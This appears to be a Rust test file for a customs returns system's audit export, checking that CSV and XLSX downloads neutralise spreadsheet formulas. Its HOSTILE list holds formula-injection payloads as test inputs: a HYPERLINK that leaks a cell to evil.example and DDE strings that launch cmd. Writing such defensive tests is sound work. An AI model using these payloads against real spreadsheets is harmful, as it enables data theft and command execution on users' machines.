//! The audit exports as customs opens them: a CSV that Excel on Chinese Windows reads as UTF-8
//! and in which nothing runs as a formula, and an XLSX with the same rows in typed cells, read
//! back with an independent reader (calamine).

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use serde_json::json;

use crate::flowkit::*;
use crate::support::*;

/// Reasons a floor worker might type, each beginning with a character a spreadsheet would
/// take as the start of a formula.
const HOSTILE: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes);
    r.records()
        .map(|rec| {
            rec.expect("a CSV record")
                .iter()
                .map(String::from)
                .collect()
        })
        .collect()
}

fn download(
    app: &TestApp,
    client: &reqwest::blocking::Client,
    path: &str,
) -> (reqwest::StatusCode, String, Vec<u8>) {
    let resp = client.get(app.url(path)).send().expect("an answer");
    let status = resp.status();
    let ct = resp
        .headers()
        .get(reqwest::header::CONTENT_TYPE)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_string();
    (status, ct, resp.bytes().expect("a body").to_vec())
}

both! {
    fn the_csv_has_a_byte_order_mark_and_nothing_in_it_runs_as_a_formula(app: &TestApp) {
        let k = Kit::new(app);
        let mut ids = Vec::new();
        for reason in HOSTILE {
            let l = k.released();
            let r = app.post_json(
                &k.floor_a,
                "/api/v1/returns",
                &json!({"invt_no": l.invt_no, "logistics_no": l.waybill, "reason": reason, "lines": [{"gnum": 1, "qty": 1}]}),
            );
            r.assert_status(201);
            ids.push(r.json["id"].as_str().unwrap().to_string());
        }
        let (status, ct, bytes) = download(app, &k.sup, "/api/v1/audit/export.csv?action=return.apply&lang=zh");
        assert_eq!(status.as_u16(), 200);
        assert!(ct.starts_with("text/csv"), "{ct}");
        assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "no UTF-8 byte-order mark");
        let rows = csv_rows(&bytes[3..]);
        assert_eq!(rows[0][0], "序号");
        assert!(rows[0].contains(&"摄像头".to_string()) && rows[0].contains(&"录像链接".to_string()), "{:?}", rows[0]);
        assert_eq!(rows.len(), 1 + HOSTILE.len(), "{rows:?}");
        for row in &rows[1..] {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a live formula in the CSV: {cell:?} in {row:?}"
                );
            }
            assert_eq!(row[4], "退货申请", "the action in Chinese: {row:?}");
            assert!(row[1].ends_with("+08:00") && row[1].len() == "2026-12-07 12:40:59 +08:00".len(), "{}", row[1]);
        }
        for reason in HOSTILE {
            assert!(
                rows.iter().any(|r| r[18] == format!("'{reason}")),
                "{reason} is not there neutralised: {rows:?}"
            );
        }
        // In English on request.
        let (_, _, en) = download(app, &k.sup, "/api/v1/audit/export.csv?action=return.apply&lang=en");
        let rows = csv_rows(&en[3..]);
        assert_eq!(rows[0][0], "seq");
        assert_eq!(rows[1][4], "Return applied");
        // A tab or carriage return at the start never reaches the log at all.
        for reason in ["\tcmd", "\rcmd"] {
            let l = k.released();
            let r = app.post_json(
                &k.floor_a,
                "/api/v1/returns",
                &json!({"invt_no": l.invt_no, "logistics_no": l.waybill, "reason": reason, "lines": [{"gnum": 1, "qty": 1}]}),
            );
            if r.status == 201 {
                let (_, _, bytes) = download(app, &k.sup, &format!("/api/v1/audit/export.csv?entity={}", r.json["id"].as_str().unwrap()));
                let rows = csv_rows(&bytes[3..]);
                assert!(rows[1..].iter().all(|row| row.iter().all(|c| !c.starts_with(['\t', '\r']))), "{rows:?}");
            } else {
                r.assert_problem(400, "validation");
            }
        }
        app.get(&k.sup, "/api/v1/audit/export.csv?lang=fr").assert_problem(400, "validation");
        app.get(&k.floor_a, "/api/v1/audit/export.xlsx").assert_problem(403, "forbidden");
    }

    fn the_xlsx_has_the_same_rows_in_typed_cells_and_no_formula(app: &TestApp) {
        let k = Kit::new(app);
        let (_, id) = k.return_in("inspected");
        k.restock(&id, 1, 2).assert_status(200);
        let l = k.released();
        app.post_json(
            &k.floor_a,
            "/api/v1/returns",
            &json!({"invt_no": l.invt_no, "logistics_no": l.waybill, "reason": HOSTILE[0], "lines": [{"gnum": 1, "qty": 1}]}),
        )
        .assert_status(201);
        let (status, ct, csv_bytes) = download(app, &k.sup, "/api/v1/audit/export.csv?lang=zh");
        assert_eq!(status.as_u16(), 200, "{ct}");
        let csv = csv_rows(&csv_bytes[3..]);
        let (status, ct, bytes) = download(app, &k.sup, "/api/v1/audit/export.xlsx?lang=zh");
        assert_eq!(status.as_u16(), 200);
        assert_eq!(ct, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).expect("an XLSX workbook");
        let sheet = book.sheet_names()[0].clone();
        let range = book.worksheet_range(&sheet).expect("the sheet");
        let formulas = book.worksheet_formula(&sheet).expect("the formulas");
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a formula in the workbook");
        let rows: Vec<&[Data]> = range.rows().collect();
        assert_eq!(rows.len(), csv.len(), "the same rows as the CSV");
        for (col, title) in csv[0].iter().enumerate() {
            assert_eq!(rows[0][col], Data::String(title.clone()));
        }
        for (x, c) in rows[1..].iter().zip(&csv[1..]) {
            // The sequence as a number, the time as a date, the rest as text.
            assert_eq!(x[0], Data::Float(c[0].parse::<f64>().unwrap()), "{c:?}");
            match &x[1] {
                Data::DateTime(d) => {
                    let shown = d.as_datetime().expect("a date").format("%Y-%m-%d %H:%M:%S").to_string();
                    assert_eq!(format!("{shown} +08:00"), c[1]);
                }
                other => panic!("the time is not a date: {other:?}"),
            }
            for col in [2, 4, 7, 18] {
                let text = c[col].trim_start_matches('\'');
                let cell = match &x[col] {
                    Data::String(s) => s.clone(),
                    Data::Empty => String::new(),
                    other => panic!("column {col} is not text: {other:?}"),
                };
                assert_eq!(cell, text, "column {col} of {c:?}");
            }
        }
        let restock = rows
            .iter()
            .find(|r| r[5] == Data::String("return.restock".into()))
            .expect("the restock row");
        assert_eq!(restock[13], Data::Float(2.0), "the quantity as a number");
        assert_eq!(restock[11], Data::String(k.seed.a.bin("restock").to_string()));
        assert!(matches!(restock[14], Data::DateTime(_)), "the footage window as dates");
        let hostile = rows
            .iter()
            .find(|r| r[18] == Data::String(HOSTILE[0].into()))
            .expect("the hostile reason, as plain text");
        assert_eq!(hostile[5], Data::String("return.apply".into()));
    }
}
